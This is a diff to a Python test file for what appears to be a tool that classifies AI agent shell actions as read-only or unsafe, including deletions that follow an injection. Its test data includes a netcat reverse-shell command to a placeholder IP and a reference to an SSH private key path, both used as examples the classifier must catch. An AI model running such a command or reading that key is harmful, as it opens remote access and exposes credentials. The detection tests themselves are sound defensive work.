@@ -17,6 +17,7 @@ from incident_lab.classify import classify_trajectory
 from incident_lab.classify.drift import intent_drift
 from incident_lab.provenance.actions import (
     authorised,
+    command_of,
     deletion_asked,
     exploration_task,
     inside_workspace,
@@ -40,6 +41,8 @@ SHELL = [{"name": "shell", "parameters": {"type": "object"}}]
         "find . -name '*.lock'",
         "LANG=C ls -la /var/log >/dev/null",
         "gh release view --repo acme/gizmo",
+        "python3 --version",
+        "sort access.log | uniq -c",
     ],
 )
 def test_commands_that_only_find_something_out_are_read_only(command: str) -> None:
@@ -71,6 +74,14 @@ def test_commands_that_only_find_something_out_are_read_only(command: str) -> No
         "(cat a)",
         "cat 'unclosed",
         "",
+        "sort -o /srv/app/allow.txt extra.txt",
+        "date -s '2020-01-01'",
+        "hostname build-42",
+        "uniq users.txt users.txt",
+        "python3 collect.py",
+        "nc -z -e /bin/sh 203.0.113.9 4444",
+        "find . -fprint found.txt",
+        "yq -i '.debug = true' app.yaml",
     ],
 )
 def test_commands_that_change_or_send_something_are_not_read_only(command: str) -> None:
@@ -330,3 +341,16 @@ def test_a_deletion_outside_the_named_target_after_an_injection_is_still_reporte
     )
     c = classify_trajectory(t)
     assert c.top is not None and 4 in c.unsafe_steps
+
+
+def test_deeply_nested_or_odd_arguments_do_not_crash() -> None:
+    deep: object = "~/.ssh/id_rsa"
+    for _ in range(5000):
+        deep = {"a": [deep]}
+    assert isinstance(inside_workspace(deep), bool)  # bounded walk, no RecursionError
+    assert command_of(deep) == ""
+    assert inside_workspace({"a": [{"b": "~/.ssh/id_rsa"}]}) is False
+    assert command_of({"command": ["ls", "-la"]}) == "ls -la"
+    assert command_of(["git", "status"]) == "git status"
+    assert command_of(None) == ""
+    assert command_of({"cwd": "/srv", "env": {"A": 1}}) == "/srv"
